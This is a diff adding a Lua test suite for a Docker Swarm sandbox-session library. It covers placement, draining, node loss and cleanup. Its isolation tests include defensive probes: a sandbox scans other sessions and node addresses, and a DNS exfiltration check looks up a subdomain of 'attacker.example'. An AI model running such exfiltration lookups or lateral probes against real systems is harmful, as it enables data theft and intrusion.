@@ -1,0 +1,389 @@
+-- sandstack.swarm on a real swarm (issue 27, docs/scale-out.md): three nested Docker engines on
+-- one machine, each in its own network namespace, joined into one swarm (one manager, two
+-- workers; spec/support/swarm-cluster.sh). Sessions are started through the public API
+-- (sandstack.swarm.start), in child processes, and found again from their records in this one.
+-- It proves: placement by Swarm (each session on one node, sessions spread, a drained node
+-- avoided), the same isolation on overlays (a sandbox reaches neither another session, on its
+-- node or another, nor any node's address; each probe after a control that does connect), the
+-- typed answers of a drained and of a lost node, and that reap leaves nothing on any node (the
+-- lost one too, once it is back).
+-- Needs root (nsenter) and the host engine: #docker; lua5.4 mode only (one cluster per CI run).
+if jit or os.getenv("SANDSTACK_TEST_MODE") == "asan" then return end
+local sandstack = require "sandstack"
+local core = sandstack.core
+local swarm = sandstack.swarm
+local h = require "helpers"
+local W = require "swarm_harness"
+
+local AGENT = "sandstack-test/agent:local"
+local PORT = 9977 -- the listener every node gets on 0.0.0.0
+local KEYP = "sw" .. core.random_hex(2):lower() .. "-"
+local PROJECT_PREFIX = "sandstack-" .. KEYP
+
+describe("sandstack.swarm on a three-node swarm #docker", function()
+  local cluster, mgr
+  local full, light -- a sandbox with an egress sidecar it depends on (ready test); a sandbox alone
+  local sessions = {} -- key -> { record =, node = index, seconds = }
+  local numbers = {}
+
+  local function diag(line)
+    numbers[#numbers + 1] = line
+    io.stderr:write("# swarm: " .. line .. "\n")
+  end
+
+  local index_of = {}
+  local function node_index(hostname) return index_of[hostname] end
+
+  local function on_nodes(project)
+    local where = {}
+    for i = 1, 3 do
+      if not cluster.nodes[i].stopped and W.node_projects(i).any[project] then where[#where + 1] = i end
+    end
+    return where
+  end
+
+  -- starts { {key, opts} } in `workers` child processes; records what each says
+  local function start(jobs, workers)
+    local t0 = core.engine_clock()
+    local res = W.start_many(jobs, workers or 1)
+    local wall = core.engine_clock() - t0
+    local total, max = 0, 0
+    for _, j in ipairs(jobs) do
+      local r = res[j.key]
+      assert.truthy(r, "no answer for " .. j.key)
+      assert.truthy(r.ok, j.key .. ": " .. core.json_encode(r.err or {}))
+      sessions[j.key] = { record = r.record, node = node_index(r.record.node), seconds = r.seconds, full = j.opts == full }
+      total, max = total + r.seconds, math.max(max, r.seconds)
+    end
+    return total / #jobs, max, wall
+  end
+
+  local function jobs(keys, o)
+    local out = {}
+    for i, k in ipairs(keys) do out[i] = { key = k, opts = o } end
+    return out
+  end
+
+  local function set_availability(i, availability)
+    local n = assert(mgr:call("GET", "/nodes/" .. cluster.nodes[i].name))
+    n.Spec.Availability = availability
+    assert(mgr:call("POST", "/nodes/" .. n.ID .. "/update", n.Spec, { query = { version = n.Version.Index } }))
+  end
+
+  -- one exec in a session's container, `agent connect` to each target: { [target] = true|false }
+  local function reach(stack, service, targets)
+    local script = {}
+    for _, t in ipairs(targets) do
+      script[#script + 1] = ("if agent connect %s %s 1500 >/dev/null 2>&1; then echo 'OPEN %s %s'; else echo 'SHUT %s %s'; fi")
+        :format(t[1], t[2], t[1], t[2], t[1], t[2])
+    end
+    local res = assert(stack:exec(service, { "sh", "-c", table.concat(script, "\n") }, { timeout = 120 }))
+    local out = {}
+    for state, ip, port in res.stdout:gmatch("(%u+) (%S+) (%d+)") do out[ip .. ":" .. port] = state == "OPEN" end
+    return out, res.stdout
+  end
+
+  local function task_ip(project, service)
+    local tasks = assert(mgr:call("GET", "/tasks", nil, { query = { filters = { service = { project .. "-" .. service } } } }))
+    for _, t in ipairs(tasks) do
+      if t.DesiredState == "running" then
+        for _, na in ipairs(t.NetworksAttachments or {}) do
+          if na.Network.Spec.Name == project .. "-sbx" then return (na.Addresses[1]:match("^([%d.]+)")) end
+        end
+      end
+    end
+  end
+
+  setup(function()
+    if select(2, h.sh("test $(id -u) = 0")) ~= true then
+      error("the swarm spec needs root (nsenter into the nested engines)", 0)
+    end
+    cluster = W.up()
+    diag(("cluster of 3 nested engines (1 manager, 2 workers) up in %.1f s"):format(cluster.up_seconds))
+    mgr = assert(sandstack.engine { host = cluster.manager })
+    for i, n in ipairs(cluster.nodes) do
+      index_of[n.name] = i
+      W.listen(i, PORT)
+    end
+    light = {
+      docker_host = cluster.manager, agent_port = 8080, cpus = 0.1, memory = "64m", ready_timeout = 90,
+      services = { { name = "sandbox", image = AGENT, command = { "agent" } } },
+    }
+    full = {
+      docker_host = cluster.manager, agent_port = 8080, cpus = 0.1, memory = "64m", ready_timeout = 90,
+      services = {
+        { name = "sandbox", image = AGENT, command = { "agent" }, depends_on = { "out" } },
+        { name = "out", image = AGENT, command = { "agent" }, env = { AGENT_PORT = "8080" }, egress = "allow" },
+      },
+      ready = { out = { test = { "agent", "connect", "127.0.0.1", "8080", "500" }, interval = 1 } },
+    }
+  end)
+
+  local t_it
+  before_each(function() t_it = core.engine_clock() end)
+  after_each(function() io.stderr:write(("# swarm: (that test took %.1f s)\n"):format(core.engine_clock() - t_it)) end)
+
+  teardown(function()
+    if mgr then mgr:close() end
+    W.cleanup()
+    io.stderr:write("# swarm: " .. table.concat(numbers, "\n# swarm: ") .. "\n")
+  end)
+
+  it("is a swarm of one manager and two workers, each node's own engine named by its label", function()
+    local nodes = assert(mgr:call("GET", "/nodes"))
+    assert.equal(3, #nodes)
+    local managers = 0
+    for _, n in ipairs(nodes) do
+      assert.equal("ready", n.Status.State)
+      assert.equal("active", n.Spec.Availability)
+      if n.Spec.Role == "manager" then managers = managers + 1 end
+      local host = n.Spec.Labels["io.sandstack.engine"]
+      local i = node_index(n.Description.Hostname)
+      assert.equal(cluster.nodes[i].host, host)
+      local e = assert(sandstack.engine { host = host })
+      assert.is_true(e:ping())
+      e:close()
+    end
+    assert.equal(1, managers)
+  end)
+
+  it("starts 9 sessions through the public API: each on one node, spread by Swarm", function()
+    -- three with a sidecar (two services and a ready test), six with a sandbox alone; every
+    -- session has its forwarder on its node besides
+    local list = {}
+    for i = 1, 9 do list[i] = { key = KEYP .. i, opts = i <= 3 and full or light } end
+    local mean, max, wall = start(list, 3)
+    local per, want = { 0, 0, 0 }, { 0, 0, 0 }
+    for _, j in ipairs(list) do
+      local s = sessions[j.key]
+      assert.truthy(s.node, j.key .. " names no node of the cluster: " .. tostring(s.record.node))
+      -- every object of the session (its task containers, the forwarder, its network) is on
+      -- the node the stack names, and on no other
+      assert.same({ s.node }, on_nodes(s.record.project))
+      per[s.node] = per[s.node] + 1
+      want[s.node] = want[s.node] + (s.full and 3 or 2)
+    end
+    for i = 1, 3 do
+      local c = 0
+      for p, n in pairs(W.node_projects(i).containers) do
+        if p:sub(1, #PROJECT_PREFIX) == PROJECT_PREFIX then c = c + n end
+      end
+      assert.equal(want[i], c)
+    end
+    for i = 1, 3 do assert.truthy(per[i] >= 2, ("node %d holds %d of 9 sessions: %s"):format(i, per[i], table.concat(per, "/"))) end
+    diag(("9 starts in 3 processes: %.1f s wall, per start mean %.1f s, max %.1f s; per node %s"):format(wall, mean, max,
+      table.concat(per, "/")))
+  end)
+
+  it("reconnects each session from its record in another process, and the agent answers on its node's loopback", function()
+    for k, s in pairs(sessions) do
+      local stack = assert(swarm.reconnect(s.record))
+      assert.equal(s.record.node, stack.node)
+      assert.equal(s.record.port, stack.port)
+      local out = W.in_node(s.node, ("curl -s -m 10 http://127.0.0.1:%d/echo/%s"):format(stack.port, k))
+      assert.truthy(out:find(k, 1, true), out)
+      s.stack = stack
+    end
+    local listed = assert(swarm.list { docker_host = cluster.manager })
+    local n = 0
+    for _, e in ipairs(listed) do
+      if e.project:sub(1, #PROJECT_PREFIX) == PROJECT_PREFIX then
+        n = n + 1
+        assert.equal("running", e.services.sandbox)
+        assert.equal(sessions[e.session_key].record.node, e.node)
+      end
+    end
+    assert.equal(9, n)
+  end)
+
+  it("keeps sessions apart: from a sandbox, another session (same node, other node) and every node address are unreachable", function()
+    -- A (with its egress sidecar) and B share a node; C is elsewhere
+    local a, b, c
+    for _, ka in pairs(sessions) do
+      for _, kb in pairs(sessions) do
+        if ka ~= kb and ka.full and ka.node == kb.node and ka.stack and kb.stack then a, b = ka, kb end
+      end
+    end
+    for _, kc in pairs(sessions) do if kc.stack and kc.node ~= a.node then c = kc end end
+    assert.truthy(a and b and c)
+    local b_ip, c_ip = task_ip(b.record.project, "sandbox"), task_ip(c.record.project, "sandbox")
+    assert.truthy(b_ip and c_ip)
+    -- controls: each target listens, seen from where it may be reached
+    local node_ip = cluster.nodes[a.node].ip
+    local ctl = reach(a.stack, "out", { { node_ip, PORT } })
+    assert.is_true(ctl[node_ip .. ":" .. PORT], "control: the egress sidecar reaches its node's listener")
+    assert.is_true(reach(a.stack, "sandbox", { { "out", 8080 } })["out:8080"], "control: the sandbox reaches its own sidecar")
+    for _, x in ipairs { { b, b_ip }, { c, c_ip } } do
+      -- from the session's own forwarder (socat is all it has), on that session's overlay
+      local r = assert(x[1].stack:exec("forwarder", { "socat", "-u", "OPEN:/dev/null",
+        ("TCP:%s:8080,connect-timeout=2"):format(x[2]) }, { timeout = 30 }))
+      assert.equal(0, r.exit_code, "control: the sandbox at " .. x[2] .. " listens: " .. r.stderr)
+    end
+    -- the attack, from A's sandbox
+    local targets = { { b_ip, 8080 }, { c_ip, 8080 }, { cluster.nodes[1].ip, 2377 } }
+    for i = 1, 3 do
+      for _, ip in ipairs(W.addresses(i)) do targets[#targets + 1] = { ip, PORT } end
+    end
+    local got, text = reach(a.stack, "sandbox", targets)
+    local open = {}
+    for _, t in ipairs(targets) do
+      local k = t[1] .. ":" .. t[2]
+      assert.is_not_nil(got[k], "no result for " .. k .. ":\n" .. text)
+      if got[k] then open[#open + 1] = k end
+    end
+    assert.same({}, open)
+    diag(("cross-session probe: %d targets from a sandbox on %s, none reachable (controls reached)"):format(#targets,
+      a.record.node))
+  end)
+
+  it("closes DNS exfiltration: a sandbox's look-ups never reach its node's resolver, an egress sidecar's do", function()
+    local a
+    for _, x in pairs(sessions) do if x.full and x.stack then a = x end end
+    -- the node's resolver is 127.0.0.1 in its namespace (nested-engine.sh): a logging one there
+    local dir = W.workdir()
+    local log = dir .. "/queries-" .. a.node
+    W.in_node(a.node, ("python3 %s 127.0.0.1 53 %s > %s 2>&1 < /dev/null & echo $! > %s"):format(
+      h.q(W.root .. "/spec/support/dns_logger.py"), h.q(log), h.q(log .. ".out"), h.q(log .. ".pid")))
+    local pid = tonumber((h.read_file(log .. ".pid") or ""):match("%d+"))
+    W.track(pid)
+    local up = false
+    for _ = 1, 50 do
+      if (h.read_file(log .. ".out") or ""):find("listening", 1, true) then up = true break end
+      core.sleep(0.1)
+    end
+    assert.is_true(up, "the logging resolver did not start: " .. (h.read_file(log .. ".out") or ""))
+    local nonce = core.random_hex(4)
+    -- the attack first, then the control: the resolver logs in arrival order
+    assert(a.stack:exec("sandbox", { "nslookup", "sbx-" .. nonce .. ".attacker.example" }, { timeout = 30 }))
+    local own = assert(a.stack:exec("sandbox", { "nslookup", "out" }, { timeout = 30 }))
+    assert(a.stack:exec("out", { "nslookup", "control-" .. nonce .. ".attacker.example" }, { timeout = 30 }))
+    local seen = false
+    for _ = 1, 100 do
+      if (h.read_file(log) or ""):find("control-" .. nonce, 1, true) then seen = true break end
+      core.sleep(0.1)
+    end
+    local text = h.read_file(log) or ""
+    os.execute("kill " .. pid)
+    assert.is_true(seen, "control: the egress sidecar's look-up never reached the node's resolver: " .. text)
+    assert.equal(0, own.exit_code, own.stdout .. own.stderr) -- the session's own names resolve
+    assert.is_nil(text:find("sbx-" .. nonce, 1, true), "the sandbox's look-up left the session:\n" .. text)
+  end)
+
+  it("gives a drained node no new session, and its sessions a typed answer", function()
+    local drained = 3
+    set_availability(drained, "drain")
+    local keys = { KEYP .. "d1", KEYP .. "d2" }
+    start(jobs(keys, light), 2)
+    for _, k in ipairs(keys) do assert.are_not.equal(drained, sessions[k].node, k) end
+    -- its sessions' tasks were stopped, not moved (restart condition none): the session is over
+    local ended = 0
+    for _, s in pairs(sessions) do
+      if s.node == drained then
+        local stack, err
+        for _ = 1, 150 do
+          stack, err = swarm.reconnect(s.record)
+          if not stack then break end
+          stack:close()
+          core.sleep(0.2)
+        end
+        assert.is_nil(stack)
+        assert.equal("session_ended", err.reason, tostring(err))
+        s.ended = true
+        ended = ended + 1
+      end
+    end
+    assert.truthy(ended >= 2)
+  end)
+
+  it("answers node_down for a lost worker's sessions, and places new sessions on the node left", function()
+    -- node 3 is still drained: with node 2 lost, node 1 is the only place left
+    local lost = 2
+    local t0 = core.engine_clock()
+    W.stop_node(lost)
+    cluster.nodes[lost].stopped = true
+    local state
+    for _ = 1, 300 do
+      state = assert(mgr:call("GET", "/nodes/" .. cluster.nodes[lost].name)).Status.State
+      if state ~= "ready" then break end
+      core.sleep(0.2)
+    end
+    assert.equal("down", state)
+    diag(("a stopped worker's dockerd: the manager reports it down after %.1f s"):format(core.engine_clock() - t0))
+    local answered = 0
+    for _, s in pairs(sessions) do
+      if s.node == lost and not s.ended then
+        local stack, err = swarm.reconnect(s.record)
+        assert.is_nil(stack)
+        assert.equal("engine", err.kind)
+        assert.equal("node_down", err.reason, tostring(err))
+        assert.equal(cluster.nodes[lost].name, err.node)
+        -- a handle held from before says the same
+        if s.stack then
+          local st = assert(s.stack:status())
+          assert.equal("down", st.node_state)
+        end
+        answered = answered + 1
+      end
+    end
+    assert.truthy(answered >= 2)
+    local keys = { KEYP .. "l1", KEYP .. "l2" }
+    start(jobs(keys, light), 2)
+    for _, k in ipairs(keys) do assert.equal(1, sessions[k].node, k) end
+    set_availability(3, "active")
+  end)
+
+  it("reaps every session from the manager, and nothing is left on any node, the lost one once it is back", function()
+    for _, s in pairs(sessions) do if s.stack then s.stack:close(); s.stack = nil end end
+    local t0 = core.engine_clock()
+    local removed, deferred = swarm.reap { docker_host = cluster.manager, prefix = PROJECT_PREFIX }
+    assert.truthy(removed, tostring(deferred))
+    local n = 0
+    for _ in pairs(sessions) do n = n + 1 end
+    assert.equal(n, #removed)
+    -- what the manager keeps for the lost node's tasks: only overlays of sessions that were there
+    local on_lost = {}
+    for _, s in pairs(sessions) do if s.node == 2 then on_lost[s.record.project .. "-sbx"] = true end end
+    for _, d in ipairs(deferred) do assert.truthy(on_lost[d], d .. " is deferred but was not on the lost node") end
+    diag(("reap of %d sessions (one node lost) in %.1f s, %d overlays deferred until the node returns"):format(n,
+      core.engine_clock() - t0, #deferred))
+    local function mine(list, field)
+      local out = {}
+      for _, x in ipairs(list) do
+        local p = (x.Spec and x.Spec.Labels or x.Labels or {})["io.sandstack.project"]
+        if p and p:sub(1, #PROJECT_PREFIX) == PROJECT_PREFIX then out[#out + 1] = x[field] or p end
+      end
+      return out
+    end
+    local f = { query = { filters = { label = { "io.sandstack.project" } } } }
+    assert.same({}, mine(assert(mgr:call("GET", "/services", nil, f)), "ID"))
+    local left = mine(assert(mgr:call("GET", "/networks", nil, f)), "Name")
+    table.sort(left)
+    table.sort(deferred)
+    assert.same(deferred, left)
+    for i = 1, 3 do
+      if i ~= 2 then assert.same({}, W.node_projects(i).any) end
+    end
+    -- the lost node comes back with what it held; the next reap's sweep removes it
+    W.start_node(2)
+    cluster.nodes[2].stopped = nil
+    local back = W.node_projects(2).any
+    assert.truthy(next(back), "the returning node holds nothing of its sessions: the sweep would prove nothing")
+    t0 = core.engine_clock()
+    removed, deferred = swarm.reap { docker_host = cluster.manager, prefix = PROJECT_PREFIX }
+    assert.truthy(removed, tostring(deferred))
+    assert.truthy(#removed >= 1)
+    assert.same({}, deferred)
+    for i = 1, 3 do assert.same({}, W.node_projects(i).any, "node " .. i) end
+    assert.same({}, mine(assert(mgr:call("GET", "/networks", nil, f)), "Name"))
+    diag(("the returning node's leftovers (%d sessions) swept in %.1f s"):format(#removed, core.engine_clock() - t0))
+  end)
+
+  it("leaves nothing on the host", function()
+    local t0 = core.engine_clock()
+    mgr:close()
+    mgr = nil
+    W.cleanup()
+    assert.same({}, W.leftovers())
+    diag(("cluster down in %.1f s"):format(core.engine_clock() - t0))
+  end)
+end)
